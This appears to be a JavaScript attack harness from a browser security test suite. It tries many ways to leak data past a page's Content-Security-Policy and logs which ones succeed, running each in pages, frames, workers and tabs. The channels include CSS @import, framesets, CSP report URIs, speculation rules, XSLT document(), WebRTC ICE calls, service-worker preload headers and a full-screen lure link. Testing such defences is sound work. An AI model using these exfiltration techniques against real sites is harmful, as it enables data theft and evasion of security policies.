// The attacker's program, added to files of the site's own (see armed.py); WAYS holds the scripts of vectors.py.
// It is told what to try by an event of the test, or by a message: nothing of it runs while DevTools evaluates, for
// then the browser would not ask the page's policy about eval.
(() => {
  if (self.attack) return;
  const kept = [];
  const x = {
    keep: (it) => (kept.push(it), it),
    put(parent, tag, attributes = {}, text = "") {
      const d = parent.ownerDocument ?? parent;
      const it = d.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) it.setAttribute(name, value);
      if (text) it.append(text);
      (parent === d ? (d.body ?? d.documentElement) : parent).append(it);
      return it;
    },
    draw(parent, tag, attributes = {}) {
      const d = parent.ownerDocument ?? parent;
      const it = d.createElementNS("http://www.w3.org/2000/svg", tag);
      for (const [name, value] of Object.entries(attributes)) it.setAttribute(name, value);
      const svg = parent === d ? x.draw(d.body, "svg", { width: 9, height: 9 }) : parent;
      svg.append(it);
      return it;
    },
    style(d, text) {
      x.put(d, "div", {}, "x").style.cssText = text;
    },
    link: (d, href, rel, as = "") => x.put(d, "link", as ? { rel, as, href } : { rel, href }),
    blob: (g, text, type = "text/javascript") => g.URL.createObjectURL(new g.Blob([text], { type })),
    sheet(g, text) {
      const sheet = new g.CSSStyleSheet();
      sheet.replaceSync(text);
      g.document.adoptedStyleSheets = [...g.document.adoptedStyleSheets, sheet];
    },
    importInto(d, to) {
      for (const sheet of d.styleSheets) sheet.insertRule(`@import url(${to})`, 0);
      if (d.styleSheets.length === 0) x.put(d, "style").sheet.insertRule(`@import url(${to})`, 0);
    },
    frameset(d, to) {
      const set = d.createElement("frameset");
      x.put(set, "frame", { src: to });
      d.body.replaceWith(set);
    },
    report(d, to) {
      const meta = { "http-equiv": "Content-Security-Policy", content: `img-src 'none'; report-uri ${to}` };
      d.head.append(x.put(d, "meta", meta));
      x.put(d, "img", { src: "/static/icon.svg" });
    },
    speculate(d, kind, to) {
      const rules = JSON.stringify({ [kind]: [{ source: "list", urls: [to], eagerness: "immediate" }] });
      x.put(d, "script", { type: "speculationrules" }, rules);
    },
    transform(g, to) {
      const text =
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">' +
        `<xsl:copy-of select="document('${to}')"/></xsl:template></xsl:stylesheet>`;
      const parse = (xml) => new g.DOMParser().parseFromString(xml, "text/xml");
      const processor = new g.XSLTProcessor();
      processor.importStylesheet(parse(text));
      processor.transformToFragment(parse("<a/>"), g.document);
    },
    form(d, method, action, mark, target = "") {
      const form = x.put(d, "form", { method, action, target });
      x.put(form, "input", { name: "mark", value: mark });
      form.submit();
    },
    lure(d, href) {
      const cover = "position: fixed; inset: 0; z-index: 2147483647; background: white";
      const frame = d.defaultView.frameElement;
      if (frame) frame.style.cssText = `${cover}; width: 100%; height: 100%`;
      x.put(d, "a", { href }, "here").style.cssText = cover;
    },
    async call(g, iceServers) {
      const peer = x.keep(new g.RTCPeerConnection({ iceServers }));
      peer.createDataChannel("proof");
      await peer.setLocalDescription(await peer.createOffer());
    },
    async candidate(g, port) {
      const [one, two] = [x.keep(new g.RTCPeerConnection()), x.keep(new g.RTCPeerConnection())];
      one.createDataChannel("proof");
      await one.setLocalDescription(await one.createOffer());
      await two.setRemoteDescription(one.localDescription);
      await two.setLocalDescription(await two.createAnswer());
      await one.setRemoteDescription(two.localDescription);
      await one.addIceCandidate({ candidate: `candidate:1 1 udp 2122260223 127.0.0.1 ${port} typ host`, sdpMid: "0" });
    },
    async serviceWorker(script) {
      const registration = await navigator.serviceWorker.register(script, { type: "module", scope: "/static/assets/" });
      const worker = registration.installing ?? registration.waiting ?? registration.active;
      while (worker.state !== "activated") await new Promise((done) => setTimeout(done, 20));
      return registration;
    },
    async preloadHeader(d, mark, script) {
      const registration = await x.serviceWorker(script);
      await registration.navigationPreload.enable();
      await registration.navigationPreload.setHeaderValue(mark);
      x.put(d, "iframe", { src: script });
    },
    total: { total: { label: "proof", amount: { currency: "EUR", value: "1" } } },
  };

  /** Tries one way in one realm; that it is tried is told before, what it threw after. */
  const attempt = async (g, job, tell) => {
    try {
      tell([job.mark, "tried"]);
      await new Promise((done) => setTimeout(done, 30)); // it is heard before the page may be gone
      await WAYS[job.way](g, g.document, job.to, job.mark, { ...x, ...job });
    } catch (error) {
      tell([job.mark, String(error)]);
    }
  };
  /** For the test, even if the page goes elsewhere the next moment. */
  const tell = ([mark, what]) => console.debug(`proof ${mark} ${what}`);

  const freshFrame = () => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    return frame.contentWindow;
  };
  const hear = ({ data }) => data?.told && tell(data.told);
  let worker = null;
  let shared = null;
  const places = {
    page: (job) => attempt(self, job, tell),
    "fresh frame": (job) => attempt(freshFrame(), job, tell),
    opener: (job) => attempt(opener, job, tell),
    worker: (job) => {
      if (!worker) {
        worker = new Worker(job.worker, { type: "module" });
        worker.addEventListener("message", hear);
      }
      worker.postMessage({ job });
    },
    "shared worker": (job) => {
      if (!shared) {
        shared = new SharedWorker(job.worker, { type: "module" }).port;
        shared.addEventListener("message", hear);
        shared.start();
      }
      shared.postMessage({ job });
    },
    "service worker": async (job) => {
      navigator.serviceWorker.addEventListener("message", hear);
      const registration = await x.serviceWorker(job.worker);
      registration.active.postMessage({ job });
    },
    "plain tab": (job) => new BroadcastChannel(job.mark).postMessage({ job }),
  };

  /** For the test: in a page. */
  self.attack = {
    try: (jobs) =>
      setTimeout(async () => {
        for (const job of jobs) {
          try {
            await Promise.race([places[job.place](job), new Promise((done) => setTimeout(done, 5))]);
          } catch (error) {
            tell([job.mark, String(error)]);
          }
        }
      }, 0),
    /** A plain tab waits for what a locked one says. */
    listen: (marks) => {
      for (const mark of marks) {
        const channel = x.keep(new BroadcastChannel(mark));
        channel.addEventListener("message", ({ data }) => attempt(self, data.job, tell));
      }
    },
  };

  // In a worker of any kind: the job comes with a message, and is answered to who sent it.
  if (!self.document) {
    const obey = (answer) => (event) => {
      if (event.data?.job) void attempt(self, event.data.job, (what) => answer(event).postMessage({ told: what }));
    };
    self.addEventListener("message", obey((event) => event.source ?? self));
    self.addEventListener("connect", (event) => {
      const port = event.ports[0];
      port.addEventListener("message", obey(() => port));
      port.start();
    });
    self.addEventListener("fetch", (event) => event.waitUntil(event.preloadResponse));
  }
})();
